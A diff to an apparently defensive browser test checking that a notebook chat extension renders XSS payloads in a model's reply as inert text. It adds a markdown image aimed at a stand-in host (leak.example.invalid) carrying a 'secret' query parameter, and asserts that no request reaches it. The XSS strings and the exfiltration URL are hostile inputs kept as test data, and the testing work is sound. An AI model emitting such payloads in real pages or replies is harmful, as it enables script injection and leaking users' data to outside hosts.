@@ -271,6 +271,7 @@ XSS = [
     "![img](javascript:window.__jrPwned='img')",
     '<a href="javascript:window.__jrPwned=\'a\'">link</a>',
     "<details open ontoggle=\"window.__jrPwned='toggle'\">x</details>",
+    "![leak](https://leak.example.invalid/pixel.png?secret=1)",  # a remote image: shown as a link
 ]
 
 
@@ -283,16 +284,20 @@ def test_xss_in_a_reply_executes_nothing_and_shows_as_text(page: Any, lab: Any) 
     name = lab.write_notebook("xss.ipynb", [SETUP, run_cell("Show me some HTML.", script)])
     dialogs: list[str] = []
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    leaks: list[str] = []
+    page.on("request", lambda r: leaks.append(r.url) if "leak.example" in r.url else None)
     open_notebook(page, lab, name)
     run_all(page)
     page.wait_for_selector(COMPLETED, timeout=60_000)
     # Click everything clickable in the reply: a surviving javascript: link would fire now.
-    for link in page.locator(f"{REPLY} a").all():
+    for link in page.locator(f"{REPLY} a:not(.jr-img-link)").all():
         link.click(modifiers=["Control"])
     page.wait_for_timeout(300)
 
     assert page.evaluate("() => window.__jrPwned") is None
     assert dialogs == []
+    assert leaks == []  # no request left for the model's image URL
+    assert page.locator(f'{REPLY} a.jr-img-link[href^="https://leak.example.invalid/"]').count() == 1
     run = page.locator(".jr-run")
     assert run.locator("script, iframe, svg, object, embed").count() == 0
     assert run.locator(".jr-md details").count() == 0  # the timeline's own <details> are ours
